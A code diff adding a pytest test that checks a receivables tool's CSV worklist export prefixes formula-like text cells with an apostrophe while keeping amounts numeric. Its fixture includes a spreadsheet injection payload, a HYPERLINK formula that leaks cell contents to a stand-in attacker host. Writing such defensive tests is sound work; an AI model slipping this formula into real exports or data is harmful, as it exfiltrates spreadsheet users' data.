@@ -189,3 +189,39 @@ def test_import_without_key_date_names_the_missing_as_of(db, capsys):
     f.write_bytes(fbl5n_german_text().replace(b"Stichtag 20.11.2026", b"").replace(b"20.11.2026   ", b""))
     assert main(["import", str(f)]) == 1
     assert "no as-of (key) date" in capsys.readouterr().err
+
+
+def test_worklist_csv_neutralises_every_text_cell(db, capsys, monkeypatch):
+    """A customer id (or any text) such as ``=HYPERLINK(...)`` stays text in the CSV; amounts stay numbers."""
+    import csv
+    import io
+    from datetime import date
+    from decimal import Decimal
+
+    import polars as pl
+
+    frame = pl.DataFrame(
+        {
+            "rank": [1],
+            "customer_id": ['=HYPERLINK("http://evil.example/?x="&A1,"0000100001")'],
+            "customer_name": ["+Müller"],
+            "collector": ["@colin"],
+            "open_amount": [Decimal("-100.00")],
+            "overdue_amount": [Decimal("0.00")],
+            "currency": ["EUR"],
+            "max_days_overdue": [3],
+            "score": [1.5],
+            "reasons": [["-credit balance"]],
+            "next_action": ["=1+1"],
+        },
+        schema_overrides={"open_amount": pl.Decimal(18, 2), "overdue_amount": pl.Decimal(18, 2)},
+    )
+    monkeypatch.setattr("ar_core.team_worklist.snapshot_for", lambda engine, as_of: (1, date(2026, 11, 20)))
+    monkeypatch.setattr("ar_core.team_worklist.team_worklist", lambda *a, **k: (frame, []))
+    assert main(["worklist", "--format", "csv"]) == 0
+    row = next(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert row["customer_id"].startswith("'=HYPERLINK(")
+    assert (row["customer_name"], row["collector"], row["reasons"], row["next_action"]) == (
+        "'+Müller", "'@colin", "'-credit balance", "'=1+1",
+    )  # fmt: skip
+    assert (row["open_amount"], row["currency"]) == ("-100.00", "EUR")
